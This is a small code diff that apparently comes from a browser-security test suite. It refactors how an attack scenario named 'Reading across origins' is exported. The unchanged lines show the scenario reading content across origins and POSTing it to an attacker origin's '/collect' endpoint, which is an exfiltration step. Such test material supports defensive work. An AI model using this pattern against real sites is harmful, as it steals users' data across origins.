@@ -5,7 +5,7 @@ import { ATTACKER_ORIGIN } from '../origins';
 import { THIRD_PARTY_COOKIES } from '../attacker/assumed';
 import type { AttackUnit } from '../attacker/attack';
 
-export default {
+const attack: AttackUnit = {
   order: 23,
   group: 'requests from elsewhere',
   label: 'Reading across origins',
@@ -24,4 +24,6 @@ export default {
     if (status === 200)
       await page.send('POST', `${ATTACKER_ORIGIN}/collect`, [], content, { mode: 'no-cors' });
   },
-} satisfies AttackUnit;
+};
+
+export default attack;
